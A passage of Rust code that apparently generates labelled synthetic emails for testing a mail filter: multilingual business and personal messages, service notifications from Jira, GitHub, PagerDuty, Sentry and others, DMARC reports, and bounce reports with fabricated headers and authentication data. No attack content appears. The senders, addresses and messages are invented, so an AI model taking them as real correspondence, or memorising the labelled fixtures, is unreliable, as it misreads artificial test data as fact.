            addr: "m.suzuki@sakura-seiki.example",
            to: BOB,
            subject: "Re: 来週のオンライン会議について",
            text: "Bob Keller 様\n\nお世話になっております。サクラ精機の鈴木です。\n\n来週のオンライン会議ですが、3月20日（木）17時（日本時間）でいかがでしょうか。\n会議のリンクは別途お送りいたします。\n\n引き続きよろしくお願いいたします。\n\n鈴木 美咲",
            mailer: Mailer::Outlook,
            zone: "+0900",
        },
        V {
            lang: "ja",
            display: "東京国際展示会 事務局",
            addr: "info@tokyo-expo-office.example",
            to: BOB,
            subject: "【ご案内】出展者説明会の開催について",
            text: "出展者各位\n\n平素より格別のご高配を賜り、厚く御礼申し上げます。\n\n出展者説明会を下記の日程で開催いたします。\n\n日時：2025年4月8日（火）14:00〜16:00\n会場：東京国際展示場 会議棟 101会議室\n\n詳細は出展者専用ページをご確認ください。\nhttps://www.tokyo-expo-office.example/exhibitors/briefing\n\n事務局",
            mailer: Mailer::Esp,
            zone: "+0900",
        },
        V {
            lang: "ja",
            display: "山本 翔太",
            addr: "shota.yamamoto@gmail.com",
            to: BOB,
            subject: "久しぶり！",
            text: "ボブさん\n\nお久しぶりです！山本です。\n来月ドイツに出張で行くことになりました。\nもし時間があれば、一緒に食事でもどうですか？\n\n山本",
            mailer: Mailer::Gmail,
            zone: "+0900",
        },
        V {
            lang: "ar",
            display: "خالد المنصوري",
            addr: "khalid@gulf-trading.example",
            to: CFO,
            subject: "بخصوص عرض السعر",
            text: "السيد جون سميث المحترم،\n\nتحية طيبة وبعد،\n\nنشكركم على اهتمامكم بمنتجاتنا. نرفق لكم عرض السعر المحدث للطلبية رقم 2025/044، ويشمل الأسعار وشروط التسليم.\n\nيسعدنا الرد على أي استفسار.\n\nمع خالص التحية،\nخالد المنصوري\nمدير المبيعات\nشركة الخليج للتجارة - دبي",
            mailer: Mailer::Outlook,
            zone: "+0400",
        },
        V {
            lang: "ar",
            display: "فاطمة الزهراء",
            addr: "fatima.z@gulf-trading.example",
            to: CFO,
            subject: "موعد الاجتماع القادم",
            text: "السيد جون،\n\nنود تأكيد موعد الاجتماع يوم الأربعاء القادم الساعة الحادية عشرة صباحاً بتوقيت دبي عبر الإنترنت.\n\nسنرسل رابط الاجتماع قبل الموعد بيوم.\n\nمع التحية،\nفاطمة الزهراء\nقسم المشتريات",
            mailer: Mailer::Gmail,
            zone: "+0400",
        },
        V {
            lang: "ar",
            display: "غرفة التجارة العربية الألمانية",
            addr: "info@ghorfa-events.example",
            to: DIETER,
            subject: "دعوة: منتدى الأعمال العربي الألماني",
            text: "السادة الكرام،\n\nيسرنا دعوتكم لحضور منتدى الأعمال العربي الألماني في برلين يومي 12 و13 مايو 2025.\n\nللتسجيل: https://www.ghorfa-events.example/forum2025\n\nمع أطيب التحيات،\nفريق المنتدى",
            mailer: Mailer::Esp,
            zone: "+0100",
        },
        V {
            lang: "ar",
            display: "يوسف حداد",
            addr: "youssef.haddad@gmail.com",
            to: CARLA,
            subject: "شكراً على الزيارة",
            text: "مرحباً كارلا،\n\nشكراً جزيلاً على زيارتكم الأسبوع الماضي. كان لقاءً مثمراً جداً، ونتطلع إلى التعاون معكم.\n\nتحياتي،\nيوسف",
            mailer: Mailer::Gmail,
            zone: "+0200",
        },
        V {
            lang: "he",
            display: "נועה לוי",
            addr: "noa.levi@negev-tech.example",
            to: BOB,
            subject: "סיכום הפגישה",
            text: "שלום בוב,\n\nתודה על הפגישה היום. מצרפת סיכום קצר:\n\n1. נשלח את המפרט המעודכן עד יום חמישי.\n2. אתם תאשרו את לוח הזמנים לפיילוט.\n3. פגישת המשך בעוד שבועיים.\n\nבברכה,\nנועה לוי\nנגב טק בע\"מ",
            mailer: Mailer::Outlook,
            zone: "+0200",
        },
        V {
            lang: "he",
            display: "אבי כהן",
            addr: "avi.cohen@negev-tech.example",
            to: BOB,
            subject: "הצעת מחיר לרישוי",
            text: "היי בוב,\n\nבהמשך לשיחתנו, הצעת המחיר לרישוי השנתי זמינה בקישור הבא:\nhttps://negev-tech.example/quotes/EO-2025-07\n\nאשמח לענות על כל שאלה.\n\nאבי",
            mailer: Mailer::Gmail,
            zone: "+0200",
        },
        V {
            lang: "he",
            display: "כנס טכנולוגיה תל אביב",
            addr: "info@tlv-tech-conf.example",
            to: BOB,
            subject: "הזמנה להרצות בכנס",
            text: "שלום רב,\n\nנשמח להזמין אותך להרצות בכנס הטכנולוגיה השנתי שיתקיים בתל אביב ביוני.\n\nפרטים נוספים והגשת תקציר: https://tlv-tech-conf.example/cfp\n\nבברכה,\nצוות הכנס",
            mailer: Mailer::Esp,
            zone: "+0200",
        },
        V {
            lang: "he",
            display: "דנה אברהם",
            addr: "dana.avraham@walla.co.il",
            to: BOB,
            subject: "ארוחת ערב בשבוע הבא",
            text: "היי בוב!\n\nאנחנו מגיעים לברלין בשבוע הבא. בא לך לאכול איתנו ארוחת ערב ביום שלישי?\n\nדנה",
            mailer: Mailer::Gmail,
            zone: "+0200",
        },
    ];
    let mut out = Vec::new();
    for (i, v) in vs.into_iter().enumerate() {
        let name = format!("{KIND}-{i:02}");
        let rtl = v.lang == "ar" || v.lang == "he";
        let body = if rtl {
            let paras: String = v
                .text
                .split("\n\n")
                .map(|p| format!("<p>{}</p>", esc(p).replace('\n', "<br>")))
                .collect();
            let h = format!(
                "<html dir=\"rtl\" lang=\"{}\"><head><meta charset=\"utf-8\"></head><body dir=\"rtl\" style=\"font-family:Arial,'Segoe UI',sans-serif;font-size:14px;text-align:right\">{paras}</body></html>\n",
                v.lang
            );
            if i % 2 == 0 {
                alternative(vec![text_b64("plain", v.text), text_b64("html", &h)])
            } else {
                alternative(vec![plain(v.text), html(&h)])
            }
        } else if v.lang == "ja" {
            if i % 2 == 0 {
                alternative(vec![
                    text_b64("plain", v.text),
                    text_b64("html", &outlook_html(v.text)),
                ])
            } else {
                body_for(v.mailer, v.text)
            }
        } else if v.mailer == Mailer::Esp {
            let h = format!(
                "<html lang=\"{}\"><body style=\"font-family:Arial;font-size:14px\">{}</body></html>\n",
                v.lang,
                v.text
                    .split("\n\n")
                    .map(|p| {
                        let p = esc(p).replace('\n', "<br>");
                        match p.find("https://") {
                            Some(at) => {
                                let url: String = p[at..]
                                    .chars()
                                    .take_while(|c| !c.is_whitespace() && *c != '<')
                                    .collect();
                                format!(
                                    "<p>{}</p>",
                                    p.replacen(&url, &format!("<a href=\"{url}\">{url}</a>"), 1)
                                )
                            }
                            None => format!("<p>{p}</p>"),
                        }
                    })
                    .collect::<String>()
            );
            alt(v.text, &h)
        } else if v.lang == "de" && i % 2 == 1 {
            plain_8bit(v.text, "UTF-8")
        } else {
            body_for(v.mailer, v.text)
        };
        let mut m = msg(
            &name,
            v.mailer,
            mailbox(v.display, v.addr),
            mailbox(v.to.0, v.to.1),
            v.subject,
            date(i / 2 + 2, 8 * 60 + i * 23, i * 3, v.zone),
            body,
        );
        if v.mailer == Mailer::Outlook {
            m = m.header(
                "Content-Language",
                match v.lang {
                    "ja" => "ja-JP",
                    "ar" => "ar-AE",
                    "he" => "he-IL",
                    "fr" => "fr-FR",
                    "es" => "es-ES",
                    _ => "de-DE",
                },
            );
        }
        if v.subject.starts_with("Re:") {
            let parent = other_id(&format!("{name}-p"), Mailer::Outlook, "example.org");
            m = m
                .header("In-Reply-To", &parent)
                .header("References", &parent);
        }
        let free = ["gmail.com", "hotmail.es", "walla.co.il"].contains(&domain_of(v.addr));
        let known = !v.mailer.eq(&Mailer::Esp) && i % 4 != 3;
        let env = if free {
            freemail_env(v.addr, i, known)
        } else if v.mailer == Mailer::Esp {
            service_env(
                &format!("bounce@{}", domain_of(v.addr)),
                &format!("mail.{}", domain_of(v.addr)),
                Auth::Aligned,
                false,
            )
        } else {
            org_env(
                v.addr,
                i,
                if i % 5 == 2 {
                    Auth::SpfOnly
                } else {
                    Auth::Aligned
                },
                known,
            )
        };
        out.push(sample(KIND, i, false, v.to.1, env, m.render()));
    }
    out
}

/// Jira, GitHub, monitoring, certificates and cron: machine mail, some of it
/// urgent, some with links to internal IP addresses.
fn automated_notification() -> Vec<Sample> {
    const KIND: &str = "automated-notification";
    let issues = [
        ("PW-412", "Quarantine release fails for messages over 25 MB"),
        ("PW-418", "Phishing score: Reply-To on list mail"),
        ("PW-421", "Dashboard shows wrong timezone for release times"),
        ("FIN-88", "Automate bank statement import"),
        ("OPS-230", "Renew wildcard certificate for example.org"),
    ];
    let prs = [
        (231, "phishing: score Reply-To domain mismatch"),
        (236, "mq: retry expired requests once"),
        (240, "web: show route latency in users list"),
        (244, "docs: explain ARC handling"),
    ];
    let mut out = Vec::new();
    for i in 0..25 {
        let name = format!("{KIND}-{i:02}");
        let mut rng = Rng::new(&name);
        let rcpt = pick(&[BOB, BOB, DIETER, IT, CFO, ALICE], i);
        let day = i / 2 + 1;
        let (m, env) = match i % 7 {
            0 => {
                let (key, title) = issues[(i / 7) % issues.len()];
                let actor = pick(
                    &[
                        ("Priya Raman", "priya"),
                        ("Alice Martin", "alice"),
                        ("Dieter Müller", "dieter"),
                    ],
                    i,
                );
                let link = format!(
                    "https://example-org.atlassian.net/browse/{key}?atlOrigin={}",
                    rng.alnum(40)
                );
                let h = format!(
                    "<html><body style=\"font-family:-apple-system,'Segoe UI',Roboto,sans-serif;font-size:14px;color:#172b4d\"><p><b>{}</b> changed the status to <b>In Review</b></p><p><a href=\"{link}\" style=\"font-size:18px;color:#0c66e4\">{key}: {}</a></p><table style=\"font-size:13px\"><tr><td style=\"color:#6b778c\">Status</td><td>In Progress &rarr; In Review</td></tr><tr><td style=\"color:#6b778c\">Assignee</td><td>{}</td></tr></table><p><a href=\"{link}\" style=\"background:#0c66e4;color:#fff;padding:6px 12px;border-radius:3px;text-decoration:none\">View issue</a></p><p style=\"font-size:12px;color:#6b778c\">Get Jira notifications on your phone! Download the Jira Cloud app for <a href=\"https://play.google.com/store/apps/details?id=com.atlassian.android.jira.core\">Android</a> or <a href=\"https://apps.apple.com/app/jira-cloud-by-atlassian/id1006972087\">iOS</a>.<br>This message was sent by Atlassian Jira (v1001.0.0-SNAPSHOT#100282-sha1:{}).</p></body></html>\n",
                    esc(actor.0),
                    esc(title),
                    rcpt.0,
                    rng.hex(7)
                );
                let m = msg(
                    &name,
                    Mailer::Esp,
                    mailbox(
                        &format!("{} (Jira)", actor.0),
                        "jira@example-org.atlassian.net",
                    ),
                    rcpt.1.to_string(),
                    &format!("[JIRA] ({key}) {title}"),
                    date(day, 9 * 60 + i * 17, i, "+0000"),
                    alt(&html_to_text(&h), &h),
                )
                .header("Auto-Submitted", "auto-generated")
                .header("Precedence", "bulk");
                (
                    m,
                    service_env(
                        "bounces@example-org.atlassian.net",
                        "mail-outbound-3.atlassian.net",
                        Auth::Aligned,
                        true,
                    ),
                )
            }
            1 => {
                let (num, title) = prs[(i / 7) % prs.len()];
                let who = pick(
                    &[
                        "alice-martin",
                        "dieter-mueller",
                        "kenji-sato",
                        "dependabot[bot]",
                    ],
                    i,
                );
                let text = format!(
                    "@{who} commented on this pull request.\n\nLooks good overall. One question on the weight for free-mail Reply-To: should mailing lists with a List-Id be exempt, since they set Reply-To to the list on purpose?\n\n-- \nReply to this email directly, view it on GitHub:\nhttps://github.com/example-org/postwarden/pull/{num}#issuecomment-{}\nYou are receiving this because you were mentioned.\n\nMessage ID: <example-org/postwarden/pull/{num}/c{}@github.com>\n",
                    rng.digits(10),
                    rng.digits(10)
                );
                let reply = format!(
                    "reply+{}@reply.github.com",
                    rng.chars_from(b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", 60)
                );
                let m = msg(&name, Mailer::Esp, mailbox(who, "notifications@github.com"), "example-org/postwarden <postwarden@noreply.github.com>".into(), &format!("Re: [example-org/postwarden] {title} (PR #{num})"), date(day, 11 * 60 + i * 13, i, "-0800"), plain(&text))
                    .message_id(&format!("<example-org/postwarden/pull/{num}/c{}@github.com>", rng.digits(10)))
                    .header("Reply-To", &format!("example-org/postwarden <{reply}>"))
                    .header("In-Reply-To", &format!("<example-org/postwarden/pull/{num}@github.com>"))
                    .header("References", &format!("<example-org/postwarden/pull/{num}@github.com>"))
                    .header("List-ID", "example-org/postwarden <postwarden.example-org.github.com>")
                    .header("List-Archive", "https://github.com/example-org/postwarden")
                    .header("List-Unsubscribe", &format!("<mailto:unsub+{}@reply.github.com>, <https://github.com/notifications/unsubscribe/{}>", rng.alnum(40), rng.alnum(40)))
                    .header("X-GitHub-Reason", "mention");
                (
                    m,
                    service_env(
                        "noreply@github.com",
                        "out-26.smtp.github.com",
                        Auth::Aligned,
                        true,
                    ),
                )
            }
            2 => {
                let alert = pick(
                    &[
                        "DiskSpaceLow",
                        "MailQueueGrowing",
                        "HighErrorRate",
                        "CertificateExpiresSoon",
                    ],
                    i / 7,
                );
                let host = pick(
                    &["mx1.example.org", "mx2.example.org", "web01.example.org"],
                    i,
                );
                let text = format!(
                    "[FIRING:1] {alert} {host} (critical)\n\nLabels:\n - alertname = {alert}\n - instance = {host}:9100\n - job = node\n - severity = critical\nAnnotations:\n - summary = {alert} on {host}\n - runbook_url = https://wiki.example.org/runbooks/{}\nSource: http://192.0.2.15:9090/graph?g0.expr=node_filesystem_avail_bytes&g0.tab=1\nSilence: http://192.0.2.15:9093/#/silences/new?filter=%7Balertname%3D%22{alert}%22%7D\n",
                    alert.to_lowercase()
                );
                let m = msg(
                    &name,
                    Mailer::Mta,
                    mailbox("Alertmanager", "alertmanager@example.org"),
                    mailbox(IT.0, IT.1),
                    &format!("[FIRING:1] {alert} {host} (critical)"),
                    date(day, (i * 97) % 1440, i, "+0000"),
                    plain(&text),
                )
                .header("Auto-Submitted", "auto-generated");
                let mut env = internal_env("alertmanager@example.org", i);
                env.helo = "monitor01.example.org".into();
                (m, env)
            }
            3 => {
                let id = 4800 + i;
                let svc = pick(&["api", "mail-gateway", "web"], i);
                let link = format!(
                    "https://example-org.pagerduty.com/incidents/Q{}",
                    rng.chars_from(b"ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789", 13)
                );
                let h = service_html(
                    "PagerDuty",
                    "#06ac38",
                    &[
                        format!(
                            "<b>[Triggered] #{id}</b> {svc}: error rate above 5% for 10 minutes"
                        ),
                        format!(
                            "Service: {svc}<br>Urgency: High<br>Escalation policy: Ops on-call"
                        ),
                    ],
                    Some(("Acknowledge", &format!("{link}/acknowledge"))),
                    &format!(
                        "<a href=\"{link}\">View incident</a> | PagerDuty, Inc., 600 Townsend St., San Francisco, CA 94103"
                    ),
                );
                let m = msg(
                    &name,
                    Mailer::Esp,
                    mailbox("PagerDuty", "no-reply@pagerduty.com"),
                    rcpt.1.to_string(),
                    &format!("[PagerDuty ALERT] You have 1 TRIGGERED Incident (#{id})"),
                    date(day, (i * 131) % 1440, i, "+0000"),
                    alt(&html_to_text(&h), &h),
                );
                (
                    m,
                    service_env(
                        "bounces@pagerduty.com",
                        "mail1.pagerduty.com",
                        Auth::Aligned,
                        true,
                    ),
                )
            }
            4 => {
                let host = pick(
                    &["mail.example.org", "www.example.org", "sso.example.org"],
                    i,
                );
                let text = format!(
                    "Hello,\n\nYour certificate (or certificates) for the names listed below will expire in 10 days (on {} UTC). Please make sure to renew your certificate before then, or visitors to your web site will encounter errors.\n\nWe recommend renewing certificates automatically when they have a third of their total lifetime left. For Let's Encrypt's current 90-day certificates, that means renewing 30 days before expiration. See https://letsencrypt.org/docs/integration-guide/ for details.\n\n{host}\n\nFor any questions or support, please visit https://community.letsencrypt.org/.\n\nRegards,\nThe Let's Encrypt Team\n",
                    long_date(day + 10)
                );
                let m = msg(
                    &name,
                    Mailer::Esp,
                    mailbox("Let's Encrypt Expiry Bot", "expiry@letsencrypt.org"),
                    IT.1.to_string(),
                    &format!("Let's Encrypt certificate expiration notice for domain \"{host}\""),
                    date(day, 2 * 60 + i, i, "+0000"),
                    plain(&text),
                );
                (
                    m,
                    service_env(
                        "expiry@letsencrypt.org",
                        "mail-out.letsencrypt.org",
                        Auth::Aligned,
                        true,
                    ),
                )
            }
            5 => {
                let text = format!(
                    "backup started at {} 02:00:01\nrepository: /srv/backup/borg\narchive: nightly-{}\n\nNumber of files: {}\nOriginal size: {} GB, Deduplicated size: {} MB\nDuration: {} minutes\n\nbackup finished: OK\n",
                    ymd(day),
                    ymd(day),
                    180_000 + i * 311,
                    400 + i,
                    200 + i * 7,
                    14 + i % 9
                );
                let m = msg(
                    &name,
                    Mailer::Mta,
                    "root@backup01.example.org (Cron Daemon)".into(),
                    "it@example.org".into(),
                    "Cron <root@backup01> /usr/local/bin/nightly-backup.sh",
                    date(day, 2 * 60 + 31, i, "+0100"),
                    plain(&text),
                )
                .header("Auto-Submitted", "auto-generated")
                .header("X-Cron-Env", "<SHELL=/bin/sh>");
                let mut env = internal_env("root@backup01.example.org", i);
                env.helo = "backup01.example.org".into();
                (m, env)
            }
            _ => {
                let err = pick(
                    &[
                        "TimeoutError: request to spamd timed out after 30s",
                        "KeyError: 'X-Original-To'",
                        "ConnectionResetError: [Errno 104] Connection reset by peer",
                    ],
                    i,
                );
                let link = format!(
                    "https://example-org.sentry.io/issues/{}/?referrer=alert_email&amp;alert_type=email&amp;notification_uuid={}",
                    rng.digits(10),
                    rng.hex(32)
                );
                let h = service_html(
                    "Sentry",
                    "#362d59",
                    &[
                        format!(
                            "<b>New issue</b> in <b>postwarden-web</b><br><code>{}</code>",
                            esc(err)
                        ),
                        format!(
                            "Environment: production<br>Release: postwarden@0.1.{}<br>Events: {}",
                            i,
                            3 + i % 17
                        ),
                    ],
                    Some(("View on Sentry", &link)),
                    "You are receiving this email due to matching rules in your Sentry alert settings.<br>Functional Software, Inc. dba Sentry, 45 Fremont Street, 8th Floor, San Francisco, CA 94105",
                );
                let m = msg(
                    &name,
                    Mailer::Esp,
                    mailbox("Sentry", "noreply@md.getsentry.com"),
                    rcpt.1.to_string(),
                    &format!("[Sentry] POSTWARDEN-WEB-{}: {}", 40 + i, err),
                    date(day, 13 * 60 + i * 7, i, "+0000"),
                    alt(&html_to_text(&h), &h),
                );
                (
                    m,
                    service_env(
                        "bounce@md.getsentry.com",
                        "mail.md.getsentry.com",
                        Auth::Aligned,
                        true,
                    ),
                )
            }
        };
        let to = if i % 7 == 2 || i % 7 == 4 || i % 7 == 5 {
            IT.1
        } else {
            rcpt.1
        };
        out.push(sample(KIND, i, false, to, env, m.render()));
    }

    // DMARC aggregate reports: a zip of XML from a mailbox provider.
    for (n, day) in [(25usize, 3usize), (26, 4), (27, 5)] {
        let name = format!("{KIND}-{n:02}");
        let begin = 1_741_046_400 + (day - 3) * 86_400;
        let end = begin + 86_399;
        let id = Rng::new(&name).digits(20);
        let xml = format!(
            "<?xml version=\"1.0\" encoding=\"UTF-8\" ?>\n<feedback>\n  <report_metadata>\n    <org_name>google.com</org_name>\n    <email>noreply-dmarc-support@google.com</email>\n    <extra_contact_info>https://support.google.com/a/answer/2466580</extra_contact_info>\n    <report_id>{id}</report_id>\n    <date_range>\n      <begin>{begin}</begin>\n      <end>{end}</end>\n    </date_range>\n  </report_metadata>\n  <policy_published>\n    <domain>example.org</domain>\n    <adkim>r</adkim>\n    <aspf>r</aspf>\n    <p>reject</p>\n    <sp>reject</sp>\n    <pct>100</pct>\n  </policy_published>\n  <record>\n    <row>\n      <source_ip>192.0.2.11</source_ip>\n      <count>{}</count>\n      <policy_evaluated>\n        <disposition>none</disposition>\n        <dkim>pass</dkim>\n        <spf>pass</spf>\n      </policy_evaluated>\n    </row>\n    <identifiers>\n      <header_from>example.org</header_from>\n    </identifiers>\n    <auth_results>\n      <dkim>\n        <domain>example.org</domain>\n        <result>pass</result>\n        <selector>s2025</selector>\n      </dkim>\n      <spf>\n        <domain>example.org</domain>\n        <result>pass</result>\n      </spf>\n    </auth_results>\n  </record>\n</feedback>\n",
            140 + n * 3
        );
        let file = format!("google.com!example.org!{begin}!{end}");
        let archive = zip(&[(&format!("{file}.xml"), xml.as_bytes())]);
        let m = msg(
            &name,
            Mailer::Esp,
            "noreply-dmarc-support@google.com".into(),
            "dmarc@example.org".into(),
            &format!("Report domain: example.org Submitter: google.com Report-ID: {id}"),
            date(day, 23 * 60 + 59, 59, "-0800"),
            mixed(vec![
                plain("\n"),
                attachment("application/zip", &format!("{file}.zip"), &archive),
            ]),
        );
        let env = service_env(
            "noreply-dmarc-support@google.com",
            "mail-yw1-f201.google.com",
            Auth::Aligned,
            true,
        );
        out.push(sample(KIND, n, false, IT.1, env, m.render()));
    }

    // A weekly report attached as an HTML file, as some dashboards send it.
    let name = format!("{KIND}-28");
    let report = "<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>Mail flow - week 11</title></head><body style=\"font-family:Arial\"><h1>Mail flow - week 11</h1><table border=\"1\" cellpadding=\"4\"><tr><th>Day</th><th>Accepted</th><th>Quarantined</th><th>Rejected</th></tr><tr><td>Mon</td><td>4812</td><td>37</td><td>1290</td></tr><tr><td>Tue</td><td>5120</td><td>41</td><td>1344</td></tr><tr><td>Wed</td><td>4987</td><td>29</td><td>1188</td></tr></table><p>Generated by Grafana Reporting.</p></body></html>\n";
    let text = "Hi,\n\nPlease find attached the weekly mail-flow report.\n\nView the dashboard: https://grafana.example.org/d/mailflow/mail-flow?orgId=1\n\nGrafana\n";
    let m = msg(
        &name,
        Mailer::Esp,
        mailbox("Grafana", "grafana@example.org"),
        person(IT),
        "Weekly report: Mail flow - week 11",
        date(14, 7 * 60, 0, "+0100"),
        mixed(vec![
            plain(text),
            attachment("text/html", "Mail_flow_week_11.html", report.as_bytes()),
        ]),
    );
    let mut env = internal_env("grafana@example.org", 28);
    env.helo = "monitor01.example.org".into();
    out.push(sample(KIND, 28, false, IT.1, env, m.render()));
    out
}

/// Non-delivery and delay reports for mail employees sent: Postfix, Gmail,
/// Exchange Online; null envelope sender, multipart/report.
fn bounce() -> Vec<Sample> {
    const KIND: &str = "bounce";
    let mut out = Vec::new();
    for i in 0..14 {
        let name = format!("{KIND}-{i:02}");
        let mut rng = Rng::new(&name);
        let sender = PEOPLE[(i * 5 + 3) % PEOPLE.len()];
        let p = &PARTNERS[i % PARTNERS.len()];
        let day = i + 2;
        let bad_rcpt = format!(
            "{}@{}",
            pick(
                &["m.lopez", "info-old", "j.garcia", "sales", "pr1ya.raman"],
                i
            ),
            p.domain
        );
        let orig_subject = pick(
            &[
                "Re: Delivery schedule for PO 45821",
                "Quote request",
                "Meeting notes",
                "Updated contract",
                "Invoice query",
            ],
            i,
        );
        let orig_id = other_id(&format!("{name}-orig"), Mailer::Outlook, "example.org");
        let orig_date = date(day, 9 * 60 + i * 11, 0, "+0100");
        let orig_headers = format!(
            "Received: from smtp-out1.example.org (smtp-out1.example.org [192.0.2.11])\n\tby {} (Postfix) with ESMTPS id {}\n\tfor <{bad_rcpt}>; {orig_date}\nFrom: {}\nTo: <{bad_rcpt}>\nSubject: {orig_subject}\nDate: {orig_date}\nMessage-ID: {orig_id}\nMIME-Version: 1.0\nContent-Type: multipart/alternative; boundary=\"_000_{}_\"\n",
            format_args!("mail.{}", p.domain),
            rng.hex_upper(10),
            person(sender),
            rng.hex_upper(20)
        );
        let (from, subject, parts, env, mailer) = match i % 4 {
            0 | 3 => {
                let delayed = i % 4 == 3;
                let host = format!("mail.{}", p.domain);
                let text = if delayed {
                    format!(
                        "This is the mail system at host {host}.\n\n####################################################################\n# THIS IS A WARNING ONLY.  YOU DO NOT NEED TO RESEND YOUR MESSAGE. #\n####################################################################\n\nYour message could not be delivered for more than 4 hour(s).\nIt will be retried until it is 5 day(s) old.\n\nFor further assistance, please send mail to postmaster.\n\nIf you do so, please include this problem report. You can\ndelete your own text from the attached returned message.\n\n                   The mail system\n\n<{bad_rcpt}>: connect to backend.{}[198.51.100.77]:25: Connection timed out\n",
                        p.domain
                    )
                } else {
                    format!(
                        "This is the mail system at host {host}.\n\nI'm sorry to have to inform you that your message could not\nbe delivered to one or more recipients. It's attached below.\n\nFor further assistance, please send mail to postmaster.\n\nIf you do so, please include this problem report. You can\ndelete your own text from the attached returned message.\n\n                   The mail system\n\n<{bad_rcpt}>: host backend.{}[198.51.100.77] said: 550 5.1.1\n    <{bad_rcpt}>: Recipient address rejected: User unknown in virtual\n    mailbox table (in reply to RCPT TO command)\n",
                        p.domain
                    )
                };
                let status = if delayed { "4.4.1" } else { "5.1.1" };
                let action = if delayed { "delayed" } else { "failed" };
                let dsn = format!(
                    "Reporting-MTA: dns; {host}\nX-Postfix-Queue-ID: {}\nX-Postfix-Sender: rfc822; {}\nArrival-Date: {orig_date}\n\nFinal-Recipient: rfc822; {bad_rcpt}\nOriginal-Recipient: rfc822;{bad_rcpt}\nAction: {action}\nStatus: {status}\nRemote-MTA: dns; backend.{}\nDiagnostic-Code: smtp; {}\n",
                    rng.hex_upper(10),
                    sender.1,
                    p.domain,
                    if delayed {
                        "connect: Connection timed out".to_string()
                    } else {
                        format!(
                            "550 5.1.1 <{bad_rcpt}>: Recipient address rejected: User unknown in virtual mailbox table"
                        )
                    }
                );
                let subj = if delayed {
                    "Delayed Mail (still being retried)"
                } else {
                    "Undelivered Mail Returned to Sender"
                };
                let parts = report(vec![
                    Part::Leaf {
                        headers: vec![
                            "Content-Description: Notification".into(),
                            "Content-Type: text/plain; charset=us-ascii".into(),
                        ],
                        body: crlf(&text),
                    },
                    Part::Leaf {
                        headers: vec![
                            "Content-Description: Delivery report".into(),
                            "Content-Type: message/delivery-status".into(),
                        ],
                        body: crlf(&dsn),
                    },
                    Part::Leaf {
                        headers: vec![
                            "Content-Description: Undelivered Message Headers".into(),
                            "Content-Type: text/rfc822-headers".into(),
                        ],
                        body: crlf(&orig_headers),
                    },
                ]);
                let env = Env {
                    mail_from: String::new(),
                    ip: world_ip(p.domain),
                    helo: host.clone(),
                    auth: Auth::Unauthenticated,
                    known: false,
                };
                (
                    format!("MAILER-DAEMON@{host} (Mail Delivery System)"),
                    subj.to_string(),
                    parts,
                    env,
                    Mailer::Mta,
                )
            }
            1 => {
                let text = format!(
                    "\n** Address not found **\n\nYour message wasn't delivered to {bad_rcpt} because the address couldn't be found, or is unable to receive mail.\n\nLearn more here: https://support.google.com/mail/?p=NoSuchUser\n\nThe response was:\n\n550 5.1.1 The email account that you tried to reach does not exist. Please try double-checking the recipient's email address for typos or unnecessary spaces. For more information, go to https://support.google.com/mail/?p=NoSuchUser {}-{}.{} - gsmtp\n",
                    rng.alnum(20),
                    rng.alnum(6),
                    rng.digits(3)
                );
                let dsn = format!(
                    "Reporting-MTA: dns; googlemail.com\nArrival-Date: {orig_date}\n\nFinal-Recipient: rfc822; {bad_rcpt}\nAction: failed\nStatus: 5.1.1\nRemote-MTA: dns; gmail-smtp-in.l.google.com. (2a00:1450:400c:c0b::1b, the server for the domain {}.)\nDiagnostic-Code: smtp; 550-5.1.1 The email account that you tried to reach does not exist.\nLast-Attempt-Date: {orig_date}\n",
                    p.domain
                );
                let parts = report(vec![
                    alternative(vec![
                        plain(&text),
                        html(&format!(
                            "<html><head></head><body><table cellpadding=\"0\" cellspacing=\"0\"><tr><td style=\"font-family:Google Sans,Roboto,Arial;font-size:22px\">Address not found</td></tr><tr><td style=\"font-family:Roboto,Arial;font-size:14px\">Your message wasn't delivered to <b>{bad_rcpt}</b> because the address couldn't be found, or is unable to receive mail.<br><br><a href=\"https://support.google.com/mail/?p=NoSuchUser\">LEARN MORE</a></td></tr></table></body></html>\n"
                        )),
                    ]),
                    raw_part("message/delivery-status", &dsn),
                    raw_part("text/rfc822-headers", &orig_headers),
                ]);
                let env = Env {
                    mail_from: String::new(),
                    ip: world_ip("googlemail.com"),
                    helo: "mail-sor-f41.google.com".into(),
                    auth: Auth::Aligned,
                    known: false,
                };
                (
                    mailbox("Mail Delivery Subsystem", "mailer-daemon@googlemail.com"),
                    "Delivery Status Notification (Failure)".to_string(),
                    parts,
                    env,
                    Mailer::Gmail,
                )
            }
            _ => {
                let german = p.lang == "de";
                let (subj, intro) = if german {
                    (
                        format!("Unzustellbar: {orig_subject}"),
                        "Ihre Nachricht hat {r} nicht erreicht, da die E-Mail-Adresse nicht gefunden wurde. Überprüfen Sie die Adresse, und versuchen Sie es erneut.",
                    )
                } else {
                    (
                        format!("Undeliverable: {orig_subject}"),
                        "Your message to {r} couldn't be delivered. {r} wasn't found at {d}.",
                    )
                };
                let intro = intro.replace("{r}", &bad_rcpt).replace("{d}", p.domain);
                let h = format!(
                    "<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\"></head><body><div style=\"font-family:'Segoe UI',Frutiger,Arial;font-size:16px;color:#212121\">{}</div><br><div style=\"font-size:14px;color:#c00000\">{}</div><br><div style=\"font-family:'Segoe UI';font-size:14px\">Office 365<br><b>Action Required</b><br>Unknown To address</div><br><div style=\"font-size:12px;color:#666\">Diagnostic information for administrators:<br>Generating server: {}<br>{bad_rcpt}<br>Remote server returned '550 5.1.10 RESOLVER.ADR.RecipientNotFound; Recipient not found by SMTP address lookup'</div></body></html>\n",
                    esc(&intro),
                    esc(&bad_rcpt),
                    Mailer::Outlook
                        .message_id(&mut rng, "x")
                        .split('@')
                        .nth(1)
                        .unwrap_or("")
                        .trim_end_matches('>')
                );
                let dsn = format!(
                    "Reporting-MTA: dns;{}\nReceived-From-MTA: dns;smtp-out1.example.org\nArrival-Date: {orig_date}\n\nFinal-Recipient: rfc822;{bad_rcpt}\nAction: failed\nStatus: 5.1.10\nDiagnostic-Code: smtp;550 5.1.10 RESOLVER.ADR.RecipientNotFound; Recipient not found by SMTP address lookup\n",
                    p.domain
                );
                let parts = report(vec![
                    alternative(vec![plain(&html_to_text(&h)), html(&h)]),
                    raw_part("message/delivery-status", &dsn),
                    raw_part("text/rfc822-headers", &orig_headers),
                ]);
                let env = Env {
                    mail_from: String::new(),
